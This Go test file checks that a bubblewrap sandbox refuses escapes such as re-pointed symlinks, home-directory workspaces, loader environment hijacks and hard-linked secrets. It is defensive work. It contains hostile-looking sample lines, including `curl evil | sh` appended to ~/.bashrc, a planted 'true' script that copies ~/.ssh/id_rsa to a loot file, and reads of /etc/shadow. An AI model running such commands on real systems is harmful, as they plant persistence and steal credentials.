package sandbox

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// These attacks span two runs: the first sandboxed command re-points a
// symlink in the workspace, and the second run, with the very same Config,
// would grant what the link now names. The second Prefix must refuse; the
// control runs the argv the pre-check code built from the re-pointed link
// (the link's target named directly) and shows what it gave away.

func TestPlantedReadLink(t *testing.T) {
	base, _, ws := fixture(t)
	secret := mkdir(t, base, "secret")
	key := writeFile(t, secret, "key", "HIDDEN-KEY")
	mkdir(t, ws, "a", "ro")
	cfg := Config{Workspace: ws, Hidden: []string{secret}, Read: []string{filepath.Join(ws, "a", "ro")}}

	if out, err := inSandbox(t, cfg, fmt.Sprintf(`cd %q && mv a a.old && mkdir a && ln -s %q a/ro && echo planted`, ws, key)); err != nil || !strings.Contains(out, "planted") {
		t.Fatalf("run 1 could not re-point the link, so this test proves nothing: %v: %s", err, out)
	}
	_, err := Prefix(cfg)
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Fatalf("run 2: Prefix = %v, want a refusal of the re-pointed read path", err)
	}

	// Control: what run 2 would have mounted, the hidden key bound back
	// over its tmpfs.
	out, err := inSandbox(t, Config{Workspace: ws, Hidden: []string{secret}, Read: []string{key}}, fmt.Sprintf(`cat %q`, key))
	if err != nil || !strings.Contains(out, "HIDDEN-KEY") {
		t.Errorf("control: the re-pointed grant did not expose the key (%v: %s): the test no longer shows the attack", err, out)
	}
}

func TestPlantedWriteLink(t *testing.T) {
	base, _, ws := fixture(t)
	host := mkdir(t, base, "host")
	mkdir(t, ws, "b", "out")
	cfg := Config{Workspace: ws, Write: []string{filepath.Join(ws, "b", "out")}}

	// Run 1 is a run without the write path: with it, the protected
	// placeholders inside b/out pin b, which then cannot be moved.
	if out, err := inSandbox(t, Config{Workspace: ws}, fmt.Sprintf(`cd %q && mv b b.old && mkdir b && ln -s %q b/out && echo planted`, ws, host)); err != nil || !strings.Contains(out, "planted") {
		t.Fatalf("run 1 could not re-point the link, so this test proves nothing: %v: %s", err, out)
	}
	_, err := Prefix(cfg)
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Fatalf("run 2: Prefix = %v, want a refusal of the re-pointed write path", err)
	}

	out, err := inSandbox(t, Config{Workspace: ws, Write: []string{host}}, fmt.Sprintf(`echo PWNED > %q/x && echo wrote`, host))
	if err != nil || !strings.Contains(out, "wrote") {
		t.Errorf("control: the re-pointed grant did not let the host directory be written (%v: %s)", err, out)
	}
}

// TestPlantedHiddenLink: a hidden path that is a symlink in the workspace
// hides whatever the link names; re-pointed, it would hide a decoy while
// the secret it hid lies open.
func TestPlantedHiddenLink(t *testing.T) {
	base, _, ws := fixture(t)
	secret := mkdir(t, base, "secret")
	writeFile(t, secret, "key", "HIDDEN-KEY")
	if err := os.Symlink(secret, filepath.Join(ws, "creds")); err != nil {
		t.Fatal(err)
	}
	_, err := Prefix(Config{Workspace: ws, Hidden: []string{filepath.Join(ws, "creds")}})
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Fatalf("Prefix = %v, want a refusal of a hidden path through a link the sandbox can re-point", err)
	}
	// Named by its target, the same secret is hidden as usual.
	out, _ := inSandbox(t, Config{Workspace: ws, Hidden: []string{secret}}, fmt.Sprintf(`cat %q/key`, secret))
	if strings.Contains(out, "HIDDEN-KEY") {
		t.Errorf("the secret named directly was readable: %s", out)
	}
}

// TestHomeWorkspaceRefused: with the home as the workspace a sandboxed
// command writes the shell's startup files, which run unsandboxed later.
func TestHomeWorkspaceRefused(t *testing.T) {
	base, home, _ := fixture(t)
	const attack = `echo 'curl evil | sh' >> ~/.bashrc`
	for _, ws := range []string{home, base} {
		_, err := Prefix(Config{Workspace: ws})
		if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "home directory") {
			t.Errorf("workspace %s: Prefix = %v, want a refusal naming the home directory", ws, err)
		}
	}
	if _, err := outside(t, attack); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); !strings.Contains(string(b), "evil") {
		t.Errorf("control: the attack did not write ~/.bashrc outside the sandbox: %q", b)
	}
	// A directory under the home is a workspace like any other.
	if _, err := Prefix(Config{Workspace: mkdir(t, home, "project")}); err != nil {
		t.Errorf("a project under the home: %v", err)
	}
}

// TestPlantedWorkspaceLink: the workspace named through a link in a write
// path, or in itself, is one a first run can re-point at any directory.
func TestPlantedWorkspaceLink(t *testing.T) {
	base, _, _ := fixture(t)
	projects := mkdir(t, base, "projects")
	app := mkdir(t, projects, "app")
	target := mkdir(t, base, "target")
	current := filepath.Join(projects, "current")
	if err := os.Symlink(app, current); err != nil {
		t.Fatal(err)
	}
	self := filepath.Join(app, "self")
	if err := os.Symlink(".", self); err != nil {
		t.Fatal(err)
	}
	for _, cfg := range []Config{
		{Workspace: current, Write: []string{projects}},
		{Workspace: self},
	} {
		_, err := Prefix(cfg)
		if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), `workspace "`+cfg.Workspace+`": resolves through the symlink`) {
			t.Errorf("%+v: Prefix = %v, want the workspace refused", cfg, err)
		}
	}
	// Control: had the link been re-pointed, the run would write there.
	if out, err := inSandbox(t, Config{Workspace: target}, "echo PWNED > file && echo wrote"); err != nil || !strings.Contains(out, "wrote") {
		t.Errorf("control: %v: %s", err, out)
	}
}

// TestHomeInWritePath: a write path that contains the home is as good as a
// home workspace for writing ~/.bashrc, and a $HOME reached through a link
// in a write path can be re-pointed off the default hidden set.
func TestHomeInWritePath(t *testing.T) {
	base, _, ws := fixture(t)
	users := mkdir(t, base, "users")
	me := mkdir(t, users, "me")
	t.Setenv("HOME", me)
	if _, err := Prefix(Config{Workspace: ws, Write: []string{users}}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "contains the home directory") {
		t.Errorf("write path containing the home: Prefix = %v, want a refusal", err)
	}
	shared := mkdir(t, base, "shared")
	real := mkdir(t, base, "realhome")
	if err := os.Symlink(real, filepath.Join(shared, "me")); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", filepath.Join(shared, "me"))
	if _, err := Prefix(Config{Workspace: ws, Write: []string{shared}}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Errorf("$HOME through a link in a write path: Prefix = %v, want a refusal", err)
	}
	// Control: a write path is writable, .bashrc included.
	writeFile(t, users, "other/.bashrc", "")
	out, err := inSandbox(t, Config{Workspace: ws, Write: []string{filepath.Join(users, "other")}}, fmt.Sprintf(`echo evil >> %q/other/.bashrc && echo wrote`, users))
	if err != nil || !strings.Contains(out, "wrote") {
		t.Errorf("control: %v: %s", err, out)
	}
}

// TestPasswdHomeWorkspace: the shell finds the home in the password
// database whatever HOME says, so that home is refused as a workspace too.
func TestPasswdHomeWorkspace(t *testing.T) {
	base, home, _ := fixture(t)
	ph := mkdir(t, base, "passwd-home")
	withPasswdHome(t, ph)
	if _, err := Prefix(Config{Workspace: ph}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "is the home directory") {
		t.Errorf("workspace %s with HOME=%s: Prefix = %v, want a refusal", ph, home, err)
	}
	// Its defaults are hidden too: ssh reads ~/.ssh there, whatever HOME
	// says. The control reads the key with that home not hidden.
	writeFile(t, ph, ".ssh/id_rsa", "PRIVATE")
	ws := mkdir(t, base, "ws2")
	out, _ := inSandbox(t, Config{Workspace: ws}, fmt.Sprintf(`cat %q/.ssh/id_rsa`, ph))
	if strings.Contains(out, "PRIVATE") {
		t.Errorf("the password database's ~/.ssh was readable: %s", out)
	}
	// A reveal names a path under $HOME, and reveals nothing of the other.
	if out, _ := inSandbox(t, Config{Workspace: ws, Reveal: []string{filepath.Join(home, ".ssh")}}, fmt.Sprintf(`cat %q/.ssh/id_rsa`, ph)); strings.Contains(out, "PRIVATE") {
		t.Errorf("revealing $HOME/.ssh revealed the password database's: %s", out)
	}
	withPasswdHome(t, ph+"/.")
	if _, err := Prefix(Config{Workspace: ws}); !errors.Is(err, ErrBadPath) {
		t.Errorf("a password database home that is not clean: Prefix = %v, want a refusal", err)
	}
	withPasswdHome(t, "")
	if out, _ := inSandbox(t, Config{Workspace: ws}, fmt.Sprintf(`cat %q/.ssh/id_rsa`, ph)); !strings.Contains(out, "PRIVATE") {
		t.Errorf("control: %s", out)
	}
}

// TestPlantedLinkThroughBindMount: a link in the workspace reached through
// another spelling of it (a host bind mount) is still one the sandbox can
// re-point.
func TestPlantedLinkThroughBindMount(t *testing.T) {
	base, _, _ := fixture(t)
	if os.Geteuid() != 0 {
		t.Skip("needs root to bind-mount on the host")
	}
	data := mkdir(t, base, "data")
	ws := mkdir(t, data, "ws")
	alias := mkdir(t, base, "mnt")
	if err := syscall.Mount(data, alias, "", syscall.MS_BIND, ""); err != nil {
		t.Skipf("bind mount: %v", err)
	}
	t.Cleanup(func() { syscall.Unmount(alias, syscall.MNT_DETACH) })
	secret := mkdir(t, base, "secret")
	writeFile(t, secret, "key", "HIDDEN")
	if err := os.Symlink(secret, filepath.Join(ws, "link")); err != nil {
		t.Fatal(err)
	}
	_, err := Prefix(Config{Workspace: ws, Hidden: []string{secret}, Read: []string{filepath.Join(alias, "ws", "link", "key")}})
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Errorf("Prefix = %v, want the read path through the workspace's alias refused", err)
	}
}

// TestHiddenPathPinned: a hidden path below a directory of the workspace
// cannot be moved aside by renaming that directory, which would leave a
// later run, hiding by path, nothing to hide. The control drops the pin-dir
// steps from the same argv and the rename goes through.
func TestHiddenPathPinned(t *testing.T) {
	_, _, ws := fixture(t)
	secret := mkdir(t, ws, "conf", "secret")
	writeFile(t, secret, "key", "TOPSECRET")
	cfg := Config{Workspace: ws, Hidden: []string{secret}}
	const attack = `cat conf/secret/key; mv conf conf2 && echo renamed`

	out, _ := inSandbox(t, cfg, attack)
	if strings.Contains(out, "renamed") || strings.Contains(out, "TOPSECRET") {
		t.Fatalf("the directory holding the hidden path was renamed (or the key read): %s", out)
	}
	if out, _ := inSandbox(t, cfg, `cat conf/secret/key conf2/secret/key`); strings.Contains(out, "TOPSECRET") {
		t.Errorf("a second run read the key: %s", out)
	}

	cmd, err := Command(t.Context(), cfg, "sh", "-c", attack)
	if err != nil {
		t.Fatal(err)
	}
	pin := filepath.Join(ws, "conf")
	var args []string
	for i := 0; i < len(cmd.Args); i++ {
		if cmd.Args[i] == "--bind" && i+2 < len(cmd.Args) && cmd.Args[i+1] == pin && cmd.Args[i+2] == pin {
			i += 2
			continue
		}
		args = append(args, cmd.Args[i])
	}
	if len(args) == len(cmd.Args) {
		t.Fatalf("no pin-dir step for %s in %q", pin, cmd.Args)
	}
	cmd.Args = args
	b, _ := cmd.CombinedOutput()
	if !strings.Contains(string(b), "renamed") {
		t.Errorf("control without the pin: the rename failed too: %s", b)
	}
	if b, err := os.ReadFile(filepath.Join(ws, "conf2", "secret", "key")); err != nil || string(b) != "TOPSECRET" {
		t.Errorf("control: the moved key: %q, %v", b, err)
	}
}

// TestHiddenPathPinnedAboveGrants: the directories to pin go up to the
// outermost writable root, past a write path, a read path or the workspace
// that lie inside it: renaming a directory moves the mount points below it.
func TestHiddenPathPinnedAboveGrants(t *testing.T) {
	base, _, ws := fixture(t)
	for _, c := range []struct {
		name   string
		cfg    func(secret string) Config
		secret string // relative to base
		move   string // a directory a run must not rename, relative to base
	}{
		{"write path inside the workspace", func(s string) Config {
			return Config{Workspace: ws, Write: []string{filepath.Join(ws, "d", "w")}, Hidden: []string{s}}
		}, "ws/d/w/x/secret", "ws/d"},
		{"read path in between", func(s string) Config {
			return Config{Workspace: ws, Read: []string{filepath.Join(ws, "e", "r")}, Hidden: []string{s}}
		}, "ws/e/r/x/secret", "ws/e"},
		{"workspace inside a write path", func(s string) Config {
			return Config{Workspace: filepath.Join(base, "w", "p", "ws"), Write: []string{filepath.Join(base, "w")}, Hidden: []string{s}}
		}, "w/p/ws/secret", "w/p"},
	} {
		t.Run(c.name, func(t *testing.T) {
			secret := mkdir(t, filepath.Join(base, c.secret))
			writeFile(t, secret, "key", "TOPSECRET")
			cfg := c.cfg(secret)
			move := filepath.Join(base, c.move)
			out, err := inSandbox(t, cfg, fmt.Sprintf(`mv %q %q.moved && echo renamed`, move, move))
			if strings.Contains(out, "renamed") {
				t.Fatalf("%s was renamed, the hidden path with it: %v: %s", move, err, out)
			}
			// Control: outside the sandbox the same directory moves.
			if out, err := outside(t, fmt.Sprintf(`mv %q %q.moved && mv %q.moved %q && echo renamed`, move, move, move, move)); !strings.Contains(out, "renamed") {
				t.Fatalf("control: %v: %s", err, out)
			}
		})
	}
}

// TestHiddenFileOtherName: bwrap hides a name, not a file, so a hidden file
// with a second hard link is refused. A run can make that link itself, next
// to a hidden path it finds missing, before the secret is written there.
// The control runs the argv built while the file still had one name.
func TestHiddenFileOtherName(t *testing.T) {
	_, _, ws := fixture(t)
	env := writeFile(t, ws, ".env", "API_TOKEN=SECRET")
	cfg := Config{Workspace: ws, Hidden: []string{env}}
	cmd, err := Command(t.Context(), cfg, "cat", ".cache-x")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Link(env, filepath.Join(ws, ".cache-x")); err != nil {
		t.Fatal(err)
	}
	if _, err := Prefix(cfg); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "2 names") {
		t.Errorf("Prefix = %v, want the hidden file with two names refused", err)
	}
	if out, err := cmd.CombinedOutput(); !strings.Contains(string(out), "SECRET") {
		t.Errorf("control: the other name did not read the hidden file: %v: %s", err, out)
	}
}

// TestWritableThroughSubdirBindMount: a host bind mount of a directory
// *inside* the workspace (or a write path) is another spelling of it too,
// for a planted link, a planted bwrap, and a home under a write path.
func TestWritableThroughSubdirBindMount(t *testing.T) {
	base, _, ws := fixture(t)
	if os.Geteuid() != 0 {
		t.Skip("needs root to bind-mount on the host")
	}
	bind := func(src, dst string) {
		t.Helper()
		if err := syscall.Mount(src, dst, "", syscall.MS_BIND, ""); err != nil {
			t.Skipf("bind mount: %v", err)
		}
		t.Cleanup(func() { syscall.Unmount(dst, syscall.MNT_DETACH) })
	}
	sub := mkdir(t, ws, "sub")
	alias := mkdir(t, base, "alias")
	bind(sub, alias)

	secret := mkdir(t, base, "secret")
	writeFile(t, secret, "key", "HIDDEN")
	if err := os.Symlink(secret, filepath.Join(sub, "link")); err != nil {
		t.Fatal(err)
	}
	_, err := Prefix(Config{Workspace: ws, Hidden: []string{secret}, Read: []string{filepath.Join(alias, "link", "key")}})
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Errorf("read path through an alias of a workspace subdirectory: Prefix = %v, want a refusal", err)
	}

	writeFile(t, sub, "fakewrap", "#!/bin/sh\n")
	if err := os.Chmod(filepath.Join(sub, "fakewrap"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", alias)
	if got, ok := findProgram("fakewrap", []string{ws}); ok {
		t.Errorf("took %q, a program the sandbox can write through another spelling", got)
	}

	data := mkdir(t, base, "data")
	realHome := mkdir(t, data, "home")
	home := mkdir(t, base, "home2")
	bind(realHome, home)
	t.Setenv("HOME", home)
	_, err = Prefix(Config{Workspace: ws, Write: []string{data}})
	if !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "home directory") {
		t.Errorf("write path holding the home through a bind mount: Prefix = %v, want a refusal", err)
	}
}

// TestLoaderEnvInWorkspace: bwrap runs outside the sandbox, and its dynamic
// loader searches LD_LIBRARY_PATH before bwrap does anything, so an entry
// in the workspace would load a library a sandboxed run left there. The
// control shows the loader searching that directory (LD_DEBUG), and a
// spawn now starting bwrap in /.
func TestLoaderEnvInWorkspace(t *testing.T) {
	_, _, ws := fixture(t)
	lib := mkdir(t, ws, "build", "lib")
	link := filepath.Join(filepath.Dir(ws), "wslink")
	if err := os.Symlink(ws, link); err != nil {
		t.Fatal(err)
	}
	for _, v := range []string{lib, "/usr/lib:" + lib, lib[1:], "/usr/lib;" + lib, filepath.Join(link, "build", "lib"), "/usr/$LIB/../../" + lib} {
		t.Setenv("LD_LIBRARY_PATH", v)
		if _, err := Prefix(Config{Workspace: ws}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "LD_LIBRARY_PATH") {
			t.Errorf("LD_LIBRARY_PATH=%s: Prefix = %v, want a refusal", v, err)
		}
	}
	os.Unsetenv("LD_LIBRARY_PATH")
	for _, v := range []string{filepath.Join(lib, "libx.so"), "libc.so.6 " + filepath.Join(lib, "libx.so")} {
		t.Setenv("LD_PRELOAD", v)
		if _, err := Prefix(Config{Workspace: ws}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "LD_PRELOAD") {
			t.Errorf("LD_PRELOAD=%s: Prefix = %v, want a refusal", v, err)
		}
	}
	os.Unsetenv("LD_PRELOAD")
	spaced := mkdir(t, ws, "My Project")
	t.Setenv("LD_AUDIT", filepath.Join(spaced, "audit.so"))
	if _, err := Prefix(Config{Workspace: ws}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "LD_AUDIT") {
		t.Errorf("LD_AUDIT with a space, in the workspace: Prefix = %v, want a refusal", err)
	}
	os.Unsetenv("LD_AUDIT")
	t.Setenv("LD_LIBRARY_PATH", filepath.Join(ws, "build")+"/../../other/lib")
	if _, err := Prefix(Config{Workspace: ws}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), ". or ..") {
		t.Errorf("LD_LIBRARY_PATH with ..: Prefix = %v, want a refusal", err)
	}
	// A writable root below an entry: glibc searches its subdirectories.
	t.Setenv("LD_LIBRARY_PATH", filepath.Dir(ws))
	if _, err := Prefix(Config{Workspace: ws}); !errors.Is(err, ErrBadPath) {
		t.Errorf("LD_LIBRARY_PATH above the workspace: Prefix = %v, want a refusal", err)
	}
	os.Unsetenv("LD_LIBRARY_PATH")
	// A loader variable the caller adds to a NewCmd's Env after the fact.
	c, err := NewCmd(t.Context(), Config{Workspace: ws}, "true")
	if err != nil {
		t.Fatal(err)
	}
	c.Env = append(c.Env, "LD_LIBRARY_PATH="+lib)
	if err := c.Run(); !errors.Is(err, ErrBadPath) {
		t.Errorf("NewCmd with LD_LIBRARY_PATH added to Env: Run = %v, want a refusal", err)
	}
	t.Setenv("LD_LIBRARY_PATH", "/usr/lib::")
	cmd, err := Command(t.Context(), Config{Workspace: ws}, "true")
	if err != nil {
		t.Fatal(err)
	}
	if cmd.Dir != "/" {
		t.Errorf("bwrap starts in %q, want /", cmd.Dir)
	}

	bwrap, err := exec.LookPath("bwrap")
	if err != nil {
		t.Fatal(err)
	}
	probe := exec.Command(bwrap, "--version")
	probe.Env = append(os.Environ(), "LD_LIBRARY_PATH="+lib, "LD_DEBUG=libs")
	out, _ := probe.CombinedOutput()
	if !strings.Contains(string(out), lib) {
		t.Errorf("control: the loader did not search %s for bwrap:\n%s", lib, out)
	}
}

// TestProbeRunsSystemTrue: the availability probe's sandbox hides nothing,
// so the true it runs must not be one a sandboxed run left on the caller's
// PATH in the workspace. The control runs the same PATH through a spawn's
// real sandbox, where the planted true does run (but sees no secret).
func TestProbeRunsSystemTrue(t *testing.T) {
	_, home, ws := fixture(t)
	writeFile(t, home, ".ssh/id_rsa", "PRIVATE")
	bin := mkdir(t, ws, "bin")
	loot := filepath.Join(ws, "loot")
	writeFile(t, bin, "true", fmt.Sprintf("#!/bin/sh\ncat %q/.ssh/id_rsa > %q 2>&1\nexit 0\n", home, loot))
	if err := os.Chmod(filepath.Join(bin, "true"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))
	w, err := PrefixFor("linux", Config{Workspace: ws})
	if err != nil {
		t.Fatal(err)
	}
	bwrapHosts.Delete(w.Program) // as in a new process: probe first
	if _, err := Command(t.Context(), Config{Workspace: ws}, "sh", "-c", "exit 0"); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(loot); err == nil {
		t.Fatalf("the probe ran the planted true: %q", b)
	}
	cmd, err := Command(t.Context(), Config{Workspace: ws}, "true")
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(loot); !strings.Contains(string(b), "No such file") {
		t.Errorf("control: the planted true in the real sandbox printed %q, want it run and the key hidden", b)
	}
}

// TestMissingHomeInWorkspace: a home that does not exist yet, inside the
// workspace, is one a run could create, .profile and all, for the next
// login to run outside the sandbox.
func TestMissingHomeInWorkspace(t *testing.T) {
	base, _, ws := fixture(t)
	withPasswdHome(t, filepath.Join(ws, "home"))
	if _, err := Prefix(Config{Workspace: ws}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "home directory") {
		t.Errorf("Prefix = %v, want the workspace refused for holding the (missing) home", err)
	}
	// The passwd home through a link in a write path is refused like $HOME.
	wp := mkdir(t, base, "wp")
	real := mkdir(t, base, "realhome")
	if err := os.Symlink(real, filepath.Join(wp, "home")); err != nil {
		t.Fatal(err)
	}
	withPasswdHome(t, filepath.Join(wp, "home"))
	if _, err := Prefix(Config{Workspace: ws, Write: []string{wp}}); !errors.Is(err, ErrBadPath) || !strings.Contains(err.Error(), "resolves through the symlink") {
		t.Errorf("passwd home through a link in a write path: Prefix = %v, want a refusal", err)
	}
}

// TestShadowHidden: a root caller's sandbox is uid 0 without capabilities,
// which still reads root's 0600 files such as /etc/shadow. Control: the
// same read outside the sandbox.
func TestShadowHidden(t *testing.T) {
	_, _, ws := fixture(t)
	if os.Geteuid() != 0 {
		t.Skip("only a root caller can read /etc/shadow to begin with")
	}
	out, err := outside(t, "wc -c < /etc/shadow")
	if err != nil || strings.TrimSpace(out) == "0" {
		t.Skipf("control: /etc/shadow unreadable or empty here: %v %q", err, out)
	}
	if got, _ := inSandbox(t, Config{Workspace: ws}, "wc -c < /etc/shadow"); strings.TrimSpace(got) != "0" {
		t.Errorf("the sandbox read %s bytes of /etc/shadow (outside: %s)", strings.TrimSpace(got), strings.TrimSpace(out))
	}
}
